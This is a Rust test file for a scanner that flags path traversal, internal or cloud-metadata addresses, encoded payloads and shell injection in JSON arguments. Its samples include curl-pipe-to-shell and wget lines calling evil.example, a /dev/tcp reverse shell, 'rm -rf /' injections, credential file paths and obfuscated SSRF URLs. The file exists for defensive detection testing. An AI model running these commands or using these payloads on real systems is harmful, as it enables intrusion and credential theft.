//! Suspicious-argument rules: positives and near-miss negatives for every
//! rule, JSON pointers, bounds, and a seeded random-input check that the
//! scanner never panics and its output stays bounded and well-formed.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use base64::Engine as _;
use portcullis_inspect::args::{
    scan, scan_text, ArgFinding, Severity, ENCODED_PAYLOAD, INTERNAL_ADDRESS, MAX_DEPTH,
    MAX_FINDINGS, MAX_SCAN_BYTES, PATH_TRAVERSAL, RULES, SHELL_METACHAR,
};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{json, Value};

/// The severity `rule` got for the single string `s`, if any.
fn sev(rule: &str, s: &str) -> Option<Severity> {
    let f = scan(&json!({ "a": s }));
    f.iter().find(|f| f.rule == rule).map(|f| {
        assert_eq!(f.path, "/a");
        f.severity
    })
}

fn assert_rule(rule: &str, s: &str, want: Severity) {
    assert_eq!(
        sev(rule, s),
        Some(want),
        "{rule} on {s:?}: {:?}",
        scan(&json!({ "a": s }))
    );
}

fn assert_clean(rule: &str, s: &str) {
    assert_eq!(sev(rule, s), None, "{rule} should not fire on {s:?}");
}

#[test]
fn rule_ids_are_stable() {
    assert_eq!(
        RULES,
        [
            "path-traversal",
            "internal-address",
            "encoded-payload",
            "shell-metachar"
        ]
    );
    assert_eq!(Severity::Low.as_str(), "low");
    assert_eq!(Severity::Medium.as_str(), "medium");
    assert_eq!(Severity::High.to_string(), "high");
    assert!(Severity::Low < Severity::Medium && Severity::Medium < Severity::High);
}

#[test]
fn path_traversal_positives() {
    use Severity::*;
    for (s, want) in [
        ("../../etc/passwd", High),
        ("..\\..\\Windows\\System32\\config\\SAM", High),
        ("docs/../../../home/u/.ssh/id_rsa", High),
        ("..%2f..%2fetc%2fshadow", High),
        ("%2e%2e%2f%2e%2e%2fproc/self/environ", High),
        ("../config.yaml", Medium),
        ("..\\secret.txt", Medium),
        ("a/b/..", Medium),
        ("..", Medium),
        ("see ../other/file", Medium),
        ("%2e%2e%2fconfig", Medium),
        ("%2E%2E%5Cconfig", Medium),
        ("..%2fconfig", Medium),
        ("%2e%2e/config", Medium),
        ("%252e%252e%252fconfig", Medium),
        ("%c0%ae%c0%ae/config", Medium),
        ("....//....//config", Medium),
        ("report.pdf\0.txt", Medium),
        ("report.pdf%00.txt", Medium),
        ("/etc/passwd", Medium),
        ("/etc/shadow", Medium),
        ("~/.ssh/config", Medium),
        ("/home/alice/.ssh/", Medium),
        ("id_rsa", Medium),
        ("/proc/self/environ", Medium),
        ("/root/.aws/credentials", Medium),
        ("/srv/app/.env", Medium),
        (".env", Medium),
        ("/srv/app/.env.production", Medium),
        ("/srv/app/.env.example.local", Medium),
        ("C:\\Users\\bob\\.SSH\\ID_RSA", Medium),
        ("cat .env", Medium),
    ] {
        assert_rule(PATH_TRAVERSAL, s, want);
    }
}

#[test]
fn path_traversal_near_misses() {
    for s in [
        "notes/2024..summary.txt",
        "archive/v1..v2.diff",
        "HEAD~3..HEAD",
        "wait... what?",
        "src/main.rs",
        "/home/alice/docs/report.pdf",
        "./relative/ok.txt",
        ".env.example",
        "/srv/app/.env.sample",
        "environment",
        "my.envelope",
        "100% done",
        "50%2 off",
        "the range 1..10",
        "",
    ] {
        assert_clean(PATH_TRAVERSAL, s);
    }
}

#[test]
fn internal_address_positives() {
    use Severity::*;
    for (s, want) in [
        ("http://127.0.0.1:8080/admin", Medium),
        ("http://127.1.2.3/", Medium),
        ("http://localhost/", Medium),
        ("HTTP://LOCALHOST:3000", Medium),
        ("http://api.localhost/x", Medium),
        ("http://[::1]:8080/", Medium),
        ("http://0.0.0.0:9000", Medium),
        ("http://10.1.2.3/", Medium),
        ("https://172.16.5.4/", Medium),
        ("https://172.31.255.255/", Medium),
        ("http://192.168.1.1/login", Medium),
        ("http://[fd12:3456::1]/", Medium),
        ("http://[fe80::1%25eth0]/", Medium),
        ("http://user:pw@127.0.0.1/", Medium),
        ("redis://10.0.0.7:6379/0", Medium),
        ("//127.0.0.1/x", Medium),
        ("http://db.internal/", Medium),
        ("http://printer.local/", Medium),
        ("127.0.0.1:6379", Medium),
        ("127.0.0.1", Medium),
        ("::1", Medium),
        ("[::1]:22", Medium),
        ("localhost:5432", Medium),
        ("db.internal", Medium),
        ("connect to 10.0.0.5 now", Medium),
        ("host=192.168.0.10", Medium),
        ("http://%31%32%37.0.0.1/", Medium),
        (
            "fetch https://example.com?next=http%3A%2F%2F10.0.0.1%2F",
            Medium,
        ),
        ("http://169.254.169.254/latest/meta-data/", High),
        ("http://169.254.170.2/v2/credentials", High),
        ("http://metadata.google.internal/computeMetadata/v1/", High),
        ("metadata.google.internal", High),
        ("http://[fd00:ec2::254]/latest/", High),
        ("http://100.100.100.200/latest/meta-data", High),
        ("http://2130706433/", High),
        ("http://0x7f000001/", High),
        ("http://0177.0.0.1/", High),
        ("http://0x7f.1/", High),
        ("http://127.1/", High),
        ("http://2852039166/", High),
        ("http://[::ffff:127.0.0.1]/", High),
        ("http://[::ffff:7f00:1]/", High),
        ("0x7f000001", High),
        ("0177.0.0.1:80", High),
    ] {
        assert_rule(INTERNAL_ADDRESS, s, want);
    }
}

#[test]
fn internal_address_near_misses() {
    for s in [
        "https://example.com/",
        "https://www.rust-lang.org/learn",
        "http://8.8.8.8/",
        "http://172.32.0.1/",
        "http://192.169.1.1/",
        "http://11.0.0.1/",
        "http://1234/",
        "http://[2001:db8::1]/",
        "https://internal.example.com/",
        "https://example.local.com/",
        "https://localhost.example.com/",
        "version 10.1 released",
        "10.1",
        "12:30:45",
        "called 2130706433 times",
        "2130706433",
        "I work on localhost stuff",
        "readme.local is a file name in a sentence",
        "1.2.3.4",
        "mailto:bob@example.com",
        "",
    ] {
        assert_clean(INTERNAL_ADDRESS, s);
    }
}

#[test]
fn encoded_payload_rules() {
    let b64 = base64::engine::general_purpose::STANDARD;
    let url = base64::engine::general_purpose::URL_SAFE_NO_PAD;

    let benign = b64.encode("The quarterly report is attached; figures are in the second table.");
    assert!(benign.len() >= 64);
    assert_rule(ENCODED_PAYLOAD, &benign, Severity::Low);
    assert_rule(
        ENCODED_PAYLOAD,
        &format!("data:text/plain;base64,{benign}"),
        Severity::Low,
    );
    assert_eq!(sev(PATH_TRAVERSAL, &benign), None);

    let shell = b64.encode("#!/bin/sh\ncurl -s http://evil.example/x.sh | sh\nrm -rf /tmp/x\n");
    assert_rule(ENCODED_PAYLOAD, &shell, Severity::Medium);
    assert_rule(
        ENCODED_PAYLOAD,
        &format!("run this: {shell} please"),
        Severity::Medium,
    );

    let meta = url.encode("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
    assert_rule(ENCODED_PAYLOAD, &meta, Severity::Medium);

    let trav = b64.encode("../../../../../../../../etc/passwd and a bit more text here");
    assert_rule(ENCODED_PAYLOAD, &trav, Severity::Medium);

    let hex = hex_encode(b"just some ordinary bytes, forty of them.");
    assert_eq!(hex.len(), 80);
    assert_rule(ENCODED_PAYLOAD, &hex, Severity::Low);
    let sha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    assert_rule(ENCODED_PAYLOAD, sha256, Severity::Low);
    let hex_shell = hex_encode(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 ; echo done");
    assert_rule(ENCODED_PAYLOAD, &hex_shell, Severity::Medium);
}

fn hex_encode(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

#[test]
fn encoded_payload_near_misses() {
    for s in [
        "dXNlcjoxMjM0NQ==",
        "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "/home/user/documents/reports/2024/quarterly/financial/summary/final/Report",
        "thequickbrownfoxjumpsoverthelazydogthequickbrownfoxjumpsoverthelazydog",
        "Short sentence with spaces, nothing encoded in it at all, even if it is long enough.",
        // Mixed standard and URL-safe alphabets is not clean base64.
        "AAAA+BBBB-CCCC/DDDD_EEEEaaaabbbbccccddddeeeeffff0000111122223333444455556666",
        // Rulers and padding are not payloads.
        &"0".repeat(100),
        &"ab".repeat(100),
    ] {
        assert_clean(ENCODED_PAYLOAD, s);
    }
}

#[test]
fn shell_metachar_rules() {
    for s in [
        "file.txt; rm -rf /",
        "x;rm -rf ~",
        "$(whoami)",
        "name=`id`",
        "a && curl http://evil.example/x | sh",
        "cat data | sh",
        "foo | bash -s",
        "a${IFS}b",
        "x || wget https://evil.example/p",
        "q; cat /etc/hosts",
        "ok\nrm -rf /",
    ] {
        assert_rule(SHELL_METACHAR, s, Severity::Medium);
    }
    for s in [
        "Tom & Jerry; cats are great",
        "price is $5 (or 6)",
        "use a | pipe symbol",
        "rock & roll",
        "cat lovers; id est the best",
        "semi; colon",
        "sort | uniq",
        "https://example.com/?a=1&b=2",
    ] {
        assert_clean(SHELL_METACHAR, s);
    }
}

#[test]
fn pointers_and_keys() {
    let v = json!({
        "items": ["fine", "../x", {"a/b": {"~k": "http://127.0.0.1/"}}],
        "http://localhost:1/": 1,
        "n": 3,
    });
    let f = scan(&v);
    let mut got: Vec<(&str, &str)> = f.iter().map(|f| (f.rule, f.path.as_str())).collect();
    got.sort();
    assert_eq!(
        got,
        [
            (INTERNAL_ADDRESS, "/http:~1~1localhost:1~1"),
            (INTERNAL_ADDRESS, "/items/2/a~1b/~0k"),
            (PATH_TRAVERSAL, "/items/1"),
        ]
    );
    for f in &f {
        assert!(v.pointer(&f.path).is_some(), "{f:?}");
    }
    // A top-level string has the empty pointer.
    assert_eq!(
        scan(&json!("../../etc/passwd")),
        [ArgFinding {
            rule: PATH_TRAVERSAL,
            path: String::new(),
            severity: Severity::High
        }]
    );
    assert!(scan(&json!({"path": "README.md", "n": 1, "ok": true, "x": null})).is_empty());
}

#[test]
fn one_finding_per_rule_and_path_with_the_highest_severity() {
    let f = scan(&json!({"p": "../a and ../../etc/passwd and ../b"}));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].severity, Severity::High);
    // Key and value at the same pointer merge too.
    let f = scan(&json!({"../x": "../../etc/shadow"}));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].severity, Severity::High);
}

#[test]
fn scan_text_matches_scan() {
    let t = "GET http://169.254.169.254/ ; rm -rf /";
    let mut a = scan_text(t);
    a.sort();
    let mut b: Vec<_> = scan(&json!(t))
        .into_iter()
        .map(|f| (f.rule, f.severity))
        .collect();
    b.sort();
    assert_eq!(a, b);
    assert_eq!(a.len(), 2);
}

#[test]
fn budget_depth_and_output_are_bounded() {
    // Past the byte budget nothing more is looked at.
    let mut long = "a".repeat(MAX_SCAN_BYTES + 10);
    long.push_str("../../etc/passwd");
    assert_eq!(scan(&json!({ "p": long })), []);
    let early = format!("../../etc/passwd{}", "a".repeat(4 * MAX_SCAN_BYTES));
    assert_eq!(scan(&json!({ "p": early })).len(), 1);
    // The budget is per call, not per string.
    let many: Vec<Value> = (0..100).map(|_| json!("x".repeat(1024))).collect();
    let mut v = json!({ "pad": many, "z": "../secret" });
    assert!(scan(&v).is_empty());
    v["pad"] = json!([]);
    assert_eq!(scan(&v).len(), 1);

    // Too deep: skipped, no stack overflow.
    let mut deep = json!("../../etc/passwd");
    for _ in 0..(MAX_DEPTH + 10) {
        deep = json!([deep]);
    }
    assert!(scan(&deep).is_empty());
    let mut shallow = json!("../../etc/passwd");
    for _ in 0..(MAX_DEPTH - 1) {
        shallow = json!([shallow]);
    }
    assert_eq!(scan(&shallow).len(), 1);

    // Many findings: capped.
    let lots: Vec<Value> = (0..1000).map(|i| json!(format!("../{i}"))).collect();
    assert_eq!(scan(&Value::Array(lots)).len(), MAX_FINDINGS);
}

#[test]
fn hostile_shapes_are_fast() {
    let start = std::time::Instant::now();
    for s in [
        ".".repeat(1 << 20),
        "%".repeat(1 << 20),
        "%25".repeat(1 << 18),
        "://".repeat(1 << 18),
        "A".repeat(1 << 20),
        "0123456789abcdef".repeat(1 << 16),
        "$(".repeat(1 << 18),
        "[".repeat(1 << 18),
        "1.".repeat(1 << 18),
        "é".repeat(1 << 18),
    ] {
        let _ = scan(&json!({ "s": s }));
    }
    assert!(start.elapsed() < std::time::Duration::from_secs(10));
}

const FRAGMENTS: &[&str] = &[
    "..",
    "/",
    "\\",
    "%",
    "2e",
    "2f",
    "%25",
    "%c0%ae",
    "\0",
    "%00",
    "etc",
    "passwd",
    ".ssh",
    "id_rsa",
    ".env",
    "http",
    "://",
    "//",
    "@",
    ":",
    "[",
    "]",
    "::",
    "ffff",
    "127",
    "0x7f",
    "0177",
    "10",
    "169.254",
    "172.16",
    ".",
    "localhost",
    ".internal",
    ".local",
    "$(",
    "`",
    ";",
    "&&",
    "|",
    " ",
    "rm",
    "-rf",
    "sh",
    "\n",
    "QUJD",
    "+",
    "=",
    "0",
    "9",
    "é",
    "😀",
    "~",
    "metadata.google.internal",
];

fn random_string(rng: &mut StdRng) -> String {
    let n = rng.random_range(0..40);
    let mut s = String::new();
    for _ in 0..n {
        if rng.random_bool(0.8) {
            s.push_str(FRAGMENTS[rng.random_range(0..FRAGMENTS.len())]);
        } else if let Some(c) = char::from_u32(rng.random_range(0..0x11_0000)) {
            s.push(c);
        }
    }
    if rng.random_bool(0.05) {
        // Occasionally a long alphanumeric run (base64/hex candidates).
        let len = rng.random_range(60..200);
        let alpha = b"ABCDEFabcdef0123456789+/-_";
        s.extend((0..len).map(|_| alpha[rng.random_range(0..alpha.len())] as char));
    }
    s
}

fn random_value(rng: &mut StdRng, depth: usize) -> Value {
    match rng.random_range(0..if depth > 6 { 4 } else { 7 }) {
        0 => Value::Null,
        1 => json!(rng.random::<bool>()),
        2 => json!(rng.random::<i64>()),
        3 => Value::String(random_string(rng)),
        4 | 5 => Value::Array(
            (0..rng.random_range(0..6))
                .map(|_| random_value(rng, depth + 1))
                .collect(),
        ),
        _ => Value::Object(
            (0..rng.random_range(0..6))
                .map(|_| (random_string(rng), random_value(rng, depth + 1)))
                .collect(),
        ),
    }
}

#[test]
fn random_inputs_never_panic_and_stay_bounded() {
    let mut rng = StdRng::seed_from_u64(0x5eed_a465);
    let mut fired = std::collections::HashSet::new();
    for _ in 0..3000 {
        let v = random_value(&mut rng, 0);
        let f = scan(&v);
        assert!(f.len() <= MAX_FINDINGS);
        for x in &f {
            assert!(RULES.contains(&x.rule), "{x:?}");
            assert!(x.path.is_empty() || x.path.starts_with('/'), "{x:?}");
            assert!(v.pointer(&x.path).is_some(), "{x:?} not in {v}");
            fired.insert(x.rule);
        }
        let mut seen = std::collections::HashSet::new();
        assert!(
            f.iter().all(|x| seen.insert((x.rule, x.path.clone()))),
            "duplicates: {f:?}"
        );
        // Deterministic.
        assert_eq!(scan(&v), f);
    }
    // The generator is rich enough to exercise every rule.
    assert_eq!(fired.len(), RULES.len(), "{fired:?}");
    // Raw random bytes, lossily decoded.
    for _ in 0..500 {
        let bytes: Vec<u8> = (0..rng.random_range(0..512))
            .map(|_| rng.random())
            .collect();
        let s = String::from_utf8_lossy(&bytes).into_owned();
        assert!(scan(&json!({ "b": s })).len() <= RULES.len());
    }
}
